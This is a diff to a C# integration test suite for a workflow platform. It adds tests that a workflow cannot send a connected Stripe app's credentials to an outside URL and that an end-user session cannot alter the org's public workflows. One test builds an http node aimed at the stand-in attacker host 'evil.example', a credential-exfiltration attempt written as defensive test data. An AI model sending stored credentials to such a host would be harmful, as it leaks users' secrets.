@@ -197,6 +197,11 @@ public abstract class WorkflowTests(PatchbayApp app)
             Assert.Equal("Errored", node.Str("node_status"));
             Assert.Contains(message, node.Str("error"));
         }
+        // A connected app's credentials go only to its own API.
+        var (_, leak) = await PublishAsync(client, Graph([Node("start", "start"), Node("steal", "http", new { app = "stripe", path = "https://evil.example/x" })],
+            [Edge("start", "steal")]));
+        var leaked = await ApiAssert.JsonAsync(await client.SendAsync(Execute(leak, new { }, sync: true), Ct), 500);
+        Assert.Contains("must be a path on Stripe's API", (await ExecutionAsync(client, leaked.Str("execution_id"))).Str("error"));
         // The server is fine.
         var (_, ok) = await PublishAsync(client, (JsonObject)CodeFlow.DeepClone());
         await ApiAssert.OkAsync(await client.SendAsync(Execute(ok, new { amount = 1 }, sync: true), Ct));
@@ -465,6 +470,12 @@ public abstract class WorkflowTests(PatchbayApp app)
         await ApiAssert.ErrorAsync(await session.GetAsync($"/api/v2/public/execution/{id}", Ct), 404, "NOT_FOUND", "RESOURCE_NOT_FOUND");
         await ApiAssert.ErrorAsync(await session.GetAsync($"/api/v2/public/workflow/{draft}", Ct), 403, "FORBIDDEN", "SERVER_ERROR", "Workflow is private to another linked account");
         await ApiAssert.ErrorAsync(await session.SendAsync(Execute(version, new { }, sync: true), Ct), 403, "FORBIDDEN", "SERVER_ERROR");
+        // An end user's session cannot change the org's public workflows.
+        var (publicDraft, _) = await PublishAsync(app.ClientFor(key), (JsonObject)CodeFlow.DeepClone(), "Public");
+        await ApiAssert.ErrorAsync(await session.PutAsync($"/api/v2/public/workflow/{publicDraft}", Body(new { name = "Hijacked" }), Ct), 403, "FORBIDDEN", "SESSION_TOKEN_NOT_ALLOWED");
+        await ApiAssert.ErrorAsync(await session.PutAsync($"/api/v2/public/workflow/{publicDraft}/publish", Body(new { published = true }), Ct), 403, "FORBIDDEN", "SESSION_TOKEN_NOT_ALLOWED");
+        await ApiAssert.ErrorAsync(await session.DeleteAsync($"/api/v2/public/workflow/{publicDraft}", Ct), 403, "FORBIDDEN", "SESSION_TOKEN_NOT_ALLOWED");
+        Assert.Equal("Public", (await ApiAssert.OkAsync(await session.GetAsync($"/api/v2/public/workflow/{publicDraft}", Ct))).Str("name"));
         // A session token reaches its own account only; the org key sees the org's executions.
         Assert.Equal(1, (await ApiAssert.OkAsync(await app.ClientFor(key).GetAsync("/api/v2/public/execution", Ct))).GetProperty("totalDocs").GetInt32());
     }
